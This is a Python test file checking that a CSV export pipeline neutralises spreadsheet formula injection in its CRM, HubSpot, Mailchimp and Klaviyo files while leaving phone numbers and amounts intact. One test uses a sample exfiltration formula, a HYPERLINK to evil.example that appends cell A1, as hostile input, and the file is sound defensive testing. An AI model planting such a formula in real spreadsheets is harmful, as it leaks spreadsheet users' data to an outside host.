"""CSV formula injection is neutralised in every CSV layout; phones and numbers stay importable."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polars as pl
from hypothesis import given, settings
from hypothesis import strategies as st

from pipelines.export.formats import csv_bytes
from tests.export.factories import export, person, write_segments

RISKY = ("=", "+", "-", "@", "\t", "\r")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.text(alphabet=st.sampled_from([*RISKY, "'", "1", "a", ",", '"', "\n", " ", "(", "."]), max_size=8)
    )
)
def test_no_cell_can_start_a_formula_and_nothing_else_changes(values: list[str]) -> None:
    rows = pl.DataFrame(
        {"customer_id": [str(i) for i in range(len(values))], "x": values},
        schema={"customer_id": pl.String, "x": pl.String},
    )
    written = [r[0] for r in _cells(csv_bytes(rows))[1:]]
    for original, cell in zip(values, written, strict=True):
        # a plain number or an E.164 phone cannot be a formula
        harmless = re.fullmatch(r"\+[1-9][0-9]{7,14}|[+-]?[0-9]+(\.[0-9]+)?", original) is not None
        if original.startswith(RISKY) and not harmless:
            assert cell == "'" + original
        else:
            assert cell == original


def test_phones_and_amounts_stay_as_they_are() -> None:
    rows = pl.DataFrame({"customer_id": ["1", "2", "3"], "phone": ["+919876543210", "+4915112345678", None],
                         "amount": ["-12.50", "40", "+3"]})  # fmt: skip
    assert _cells(csv_bytes(rows))[1:] == [["+919876543210", "-12.50"], ["+4915112345678", "40"], ["", "+3"]]


def test_a_formula_first_name_is_text_in_the_crm_and_hubspot_files(tmp_path: Path) -> None:
    evil = person(1, first_name='=HYPERLINK("http://evil.example/?"&A1,"click")', last_name="@SUM(1+1)")
    write_segments(tmp_path / "w.duckdb", [evil, person(2)], [evil])
    report = export(tmp_path)
    assert report.day_dir is not None
    for rel in (
        "crm/champions.csv",
        "hubspot/champions.csv",
        "mailchimp/champions.csv",
        "klaviyo/champions.csv",
    ):
        rows = _cells((report.day_dir / rel).read_bytes())
        flat = [cell for row in rows for cell in row]
        assert "'" + evil["first_name"] in flat, rel
        assert "'@SUM(1+1)" in flat, rel
        assert not any(cell.startswith(("=", "@")) for cell in flat), rel
        assert person(2)["phone_e164"] in flat or rel.startswith(("crm", "mailchimp")), rel
